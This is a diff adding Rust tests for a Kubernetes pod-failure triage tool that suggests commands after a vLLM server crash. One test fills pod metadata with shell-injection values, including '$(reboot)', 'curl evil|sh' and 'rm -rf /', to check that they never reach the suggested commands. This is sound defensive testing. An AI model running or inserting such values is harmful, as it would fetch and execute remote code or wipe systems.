@@ -1,0 +1,103 @@
+//! What is advised: commands that are safe to paste and fit the pod, numbers within their bounds, order as clocks show.
+
+use serde_json::{Value, json};
+
+use crate::harness::{class, triage_files};
+
+/// A pod whose only container died; `change` makes the case of it.
+fn pod(exit: i64, reason: &str, args: &[&str], change: impl Fn(&mut Value)) -> String {
+    let mut pod = json!({
+        "apiVersion": "v1", "kind": "Pod",
+        "metadata": {"name": "llm-0", "namespace": "serving", "uid": "16488798-0c28-4887-9954-4ab401f4e9f0"},
+        "spec": {"nodeName": "gpu-1", "containers": [{
+            "name": "server", "image": "vllm/vllm-openai:v0.11.2", "args": args,
+            "resources": {"limits": {"memory": "64Gi"}, "requests": {"memory": "64Gi"}}
+        }]},
+        "status": {"phase": "Running", "containerStatuses": [{
+            "name": "server", "restartCount": 1,
+            "lastState": {"terminated": {"exitCode": exit, "reason": reason, "startedAt": "2026-06-18T08:00:00Z", "finishedAt": "2026-06-18T09:10:01Z"}}
+        }]}
+    });
+    change(&mut pod);
+    pod.to_string()
+}
+
+/// Runs out of VRAM while it serves.
+const SERVING: &str = "(EngineCore_DP0 pid=201) INFO 06-18 09:09:50 [loggers.py:257] Engine 000: Avg prompt throughput: 311.9 tokens/s, Avg generation throughput: 640.2 tokens/s, Running: 5 reqs, Waiting: 0 reqs, GPU KV cache usage: 9.8%, Prefix cache hit rate: 3.1%\n\
+(EngineCore_DP0 pid=201) ERROR 06-18 09:10:00 [core.py:700] torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 616.00 MiB. GPU 0 has a total capacity of 79.11 GiB of which 501.19 MiB is free. Including non-PyTorch memory, this process has 78.61 GiB memory in use. Of the allocated memory 76.10 GiB is allocated by PyTorch, and 15.10 MiB is reserved by PyTorch but unallocated.\n";
+
+fn strings(v: &Value, key: &str) -> Vec<String> {
+    let of = |a: &Value| -> Vec<String> {
+        match &a[key] {
+            Value::Array(all) => all.iter().map(|c| c.as_str().unwrap().to_owned()).collect(),
+            Value::String(one) => vec![one.clone()],
+            _ => Vec::new(),
+        }
+    };
+    v.as_array().unwrap().iter().flat_map(of).collect()
+}
+
+/// All commands of a report.
+fn commands(v: &Value) -> Vec<String> {
+    let mut out = strings(&v["actions"], "commands");
+    out.extend(strings(&v["actions"], "patch"));
+    out.extend(strings(&v["missing"], "command"));
+    out
+}
+
+#[test]
+fn no_name_of_the_evidence_is_run_by_a_shell() {
+    for exit in [137, 1, 139] {
+        let hostile = pod(exit, if exit == 137 { "OOMKilled" } else { "Error" }, &[], |p| {
+            p["metadata"]["name"] = json!("$(reboot)");
+            p["metadata"]["namespace"] = json!("x'; curl evil|sh #");
+            p["metadata"]["ownerReferences"] =
+                json!([{"kind": "StatefulSet", "name": "`reboot`", "controller": true}]);
+            p["spec"]["nodeName"] = json!("$(reboot)`id`; rm -rf /");
+            p["spec"]["containers"][0]["name"] = json!("-c; reboot");
+            p["status"]["containerStatuses"][0]["name"] = json!("-c; reboot");
+        });
+        for log in ["", SERVING, "CUDA error: uncorrectable ECC error encountered\n"] {
+            let v = triage_files(&[("pod.json", &hostile), ("previous.log", log)]);
+            let all = commands(&v);
+            assert!(!all.is_empty());
+            for c in all {
+                for bad in ["reboot)", "`", "evil", "rm -rf", "; reboot"] {
+                    assert!(!c.contains(bad), "{} {c}", class(&v));
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn a_restart_is_told_only_for_kinds_that_have_one_and_after_the_log_is_saved() {
+    let of = |owner: Value| {
+        let p = pod(1, "Error", &[], |p| {
+            if !owner.is_null() {
+                p["metadata"]["ownerReferences"] = json!([owner]);
+            }
+        });
+        let v = triage_files(&[("pod.json", &p), ("previous.log", SERVING)]);
+        assert_eq!(class(&v), "cuda_oom_runtime");
+        let save = v["actions"][0].to_string();
+        assert!(save.contains("--previous > previous.log"), "{save}");
+        let stop: Vec<String> = v["actions"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|a| a["stage"] == "stop_the_bleeding")
+            .map(Value::to_string)
+            .collect();
+        stop.join("\n")
+    };
+    let set = of(json!({"kind": "StatefulSet", "name": "llm", "controller": true}));
+    assert!(set.contains("kubectl rollout restart statefulset/llm -n serving"), "{set}");
+    for kind in ["Job", "LeaderWorkerSet", "InferenceService"] {
+        let other = of(json!({"kind": kind, "name": "llm", "controller": true}));
+        assert!(!other.contains("restart llm") && !other.contains("/llm"), "{other}");
+        assert!(other.contains(&format!("knows no {kind}")), "{other}");
+    }
+    let bare = of(Value::Null);
+    assert!(!bare.contains("deployment/") && bare.contains("no owner"), "{bare}");
+}
